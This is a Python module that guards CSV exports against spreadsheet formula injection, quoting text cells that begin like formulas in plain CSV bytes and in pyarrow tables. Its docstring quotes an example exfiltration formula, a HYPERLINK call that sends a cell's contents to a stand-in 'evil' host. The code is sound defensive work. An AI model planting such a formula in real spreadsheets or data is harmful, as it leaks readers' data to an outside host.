"""Spreadsheet-safe CSV: a cell from a person, a model or the data never runs as a formula when opened.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@` (and one that
starts with a tab or carriage return followed by one), so `=HYPERLINK("https://evil/?"&A1,"x")` in a
question or a result row would run on the reader's machine. OWASP's advice
(https://owasp.org/www-community/attacks/CSV_Injection): prefix such cells with a single quote, which
spreadsheets show as text. Numbers stay numbers; only text cells change.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_REGEX = "^[=+\\-@\\t\\r]"  # the same set, for Arrow's regex kernel


def neutralise_cell(value: Any) -> Any:
    """``value`` made inert for a spreadsheet: text starting like a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_table(table: Any) -> Any:
    """A pyarrow Table with every text column passed through the rule of ``neutralise_cell``, vectorised
    (results can be millions of rows; a Python loop per cell would not do)."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns = []
    for column in table.columns:
        kind = column.type
        if pa.types.is_dictionary(kind):
            column, kind = column.cast(kind.value_type), kind.value_type
        if pa.types.is_string(kind) or pa.types.is_large_string(kind):
            risky = pc.match_substring_regex(column, _FORMULA_REGEX)
            quote, empty = pa.scalar("'", kind), pa.scalar("", kind)
            column = pc.if_else(risky, pc.binary_join_element_wise(quote, column, empty), column)
        columns.append(column)
    return pa.table(columns, names=table.column_names)


# A cell that is a plain number ("-5", "+1.5e3") stays as it is: spreadsheets read it as that number.
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
MAX_CSV_BYTES = 50 * 2**20  # what may be attached at most (core/tools.py); larger is refused here too
_BOM = "\ufeff"


def neutralise_csv(data: bytes, *, limit: int = MAX_CSV_BYTES) -> bytes:
    """A CSV file's bytes with every text cell made inert (the rule of ``neutralise_cell``), for a file
    model code wrote itself: the step is not trusted to have done it. Returns ``data`` unchanged when
    no cell needs it (quoting and line endings stay as written); otherwise rewrites it with the same
    line ending, keeping a byte-order mark and any bytes that are not UTF-8. Raises ValueError (one
    sentence) past ``limit`` or for text the csv module cannot read (a cell over 128 KB, say)."""
    if len(data) > limit:
        raise ValueError(f"the CSV is over {limit // 2**20} MB, too large to check for spreadsheet formulas")
    text = data.decode("utf-8", errors="surrogateescape")
    bom = _BOM if text.startswith(_BOM) else ""
    text = text[len(bom) :]
    try:
        rows = list(csv.reader(io.StringIO(text, newline="")))
    except csv.Error as exc:
        raise ValueError(f"the CSV could not be checked for spreadsheet formulas ({exc})") from None
    changed = False
    for row in rows:
        for i, cell in enumerate(row):
            if cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell):
                row[i] = "'" + cell
                changed = True
    if not changed:
        return data
    out = io.StringIO(newline="")
    ending = "\r\n" if "\r\n" in text.split("\n", 1)[0] + "\n" else "\n"
    csv.writer(out, lineterminator=ending).writerows(rows)
    return (bom + out.getvalue()).encode("utf-8", errors="surrogateescape")
